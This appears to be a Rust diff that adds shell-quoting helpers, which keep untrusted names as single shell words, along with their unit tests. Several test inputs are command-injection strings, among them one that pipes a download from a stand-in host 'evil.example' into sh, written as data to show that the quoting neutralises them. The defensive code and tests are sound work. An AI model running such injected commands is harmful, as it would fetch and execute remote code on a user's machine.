@@ -20,6 +20,27 @@ fn is_hostile(c: char) -> bool {
     c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
+/// What others named, as one word of a command that is copied into a shell: whatever the name says, it stays a word.
+pub fn shell(word: &str) -> Cow<'_, str> {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '/' | ':' | '-');
+    if !word.is_empty() && word.chars().all(is_plain) {
+        return Cow::Borrowed(word);
+    }
+    Cow::Owned(format!("'{}'", clean(word).replace('\'', r"'\''")))
+}
+
+/// The same as an argument without a flag, which must come last where it begins like a flag.
+pub fn operand(word: &str) -> String {
+    let marked = if word.starts_with('-') { "-- " } else { "" };
+    format!("{marked}{}", shell(word))
+}
+
+/// The same as the value of a flag.
+pub fn flag(name: &str, word: &str) -> String {
+    let between = if word.starts_with('-') { "=" } else { " " };
+    format!("{name}{between}{}", shell(word))
+}
+
 /// The first line of a text, cleaned.
 pub fn one_line(text: &str) -> String {
     let mut lines = text.lines();
@@ -152,6 +173,23 @@ mod tests {
         assert_eq!(clean("plain – ünïcode ✓"), "plain – ünïcode ✓");
         assert_eq!(clean("a\x1b[31mred\u{9b}1A\u{202e}x\ty"), "a�[31mred�1A�x y");
         assert_eq!(one_line("boom\nat line 3"), "boom …");
+    }
+
+    #[test]
+    fn what_others_named_is_one_word_of_a_command() {
+        assert_eq!(shell("mail/send_v1.2:a-b"), "mail/send_v1.2:a-b");
+        assert_eq!(shell("x; curl evil.example|sh #"), "'x; curl evil.example|sh #'");
+        assert_eq!(shell("it's $(id) `id`"), r"'it'\''s $(id) `id`'");
+        assert_eq!(shell(""), "''");
+        assert_eq!(shell("a\nb"), "'a\u{fffd}b'");
+        assert_eq!(
+            (operand("a b"), operand("-rf")),
+            ("'a b'".to_owned(), "-- -rf".to_owned())
+        );
+        assert_eq!(
+            (flag("--task", "a"), flag("--task", "-a")),
+            ("--task a".to_owned(), "--task=-a".to_owned())
+        );
     }
 
     #[test]
